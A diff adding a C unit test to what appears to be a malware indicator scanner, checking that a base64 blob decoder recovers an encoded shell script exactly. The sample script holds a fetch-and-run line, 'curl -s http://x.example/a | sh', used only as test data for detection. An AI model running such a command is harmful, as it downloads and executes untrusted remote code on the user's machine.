@@ -619,3 +619,50 @@ Test(iocs, base64_payload_over_budget_decoded_in_part) {
     free(text);
     free(raw);
 }
+
+/* The reader of blobs and the writer of path_b64 agree on every one of
+ * the 64 characters: a script encoded by ms_base64_write, ending in 64
+ * groups that each repeat one character value, is found and decoded back
+ * to the same bytes. */
+typedef struct {
+    uint8_t *got;
+    size_t len;
+    unsigned blobs;
+} blob_copy;
+
+static int copy_blob(void *ud, uint64_t off, const uint8_t *d, size_t n) {
+    blob_copy *b = ud;
+    (void)off;
+    free(b->got);
+    b->got = malloc(n);
+    memcpy(b->got, d, n);
+    b->len = n;
+    b->blobs++;
+    return 0;
+}
+
+Test(iocs, base64_every_character_reads_back) {
+    uint8_t plain[600 + 3 * 64];
+    for (size_t i = 0; i < 600; i++)
+        plain[i] = (uint8_t)"#!/bin/sh\ncurl -s http://x.example/a | sh # fetch and run\n"[i % 58];
+    for (unsigned v = 0; v < 64; v++) {
+        uint32_t q = v << 18 | v << 12 | v << 6 | v; /* four characters of value v */
+        plain[600 + 3 * v] = (uint8_t)(q >> 16);
+        plain[601 + 3 * v] = (uint8_t)(q >> 8);
+        plain[602 + 3 * v] = (uint8_t)q;
+    }
+    char *text = NULL;
+    size_t n = 0;
+    FILE *f = open_memstream(&text, &n);
+    fputs("payload='", f);
+    ms_base64_write(f, plain, sizeof(plain));
+    fputs("'\n", f);
+    fclose(f);
+    blob_copy b = {0};
+    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, n, copy_blob, &b), 0);
+    cr_assert_eq(b.blobs, 1, "one blob in: %s", text);
+    cr_assert_eq(b.len, sizeof(plain), "decoded %zu bytes", b.len);
+    cr_assert(!memcmp(b.got, plain, sizeof(plain)), "the same bytes back");
+    free(b.got);
+    free(text);
+}
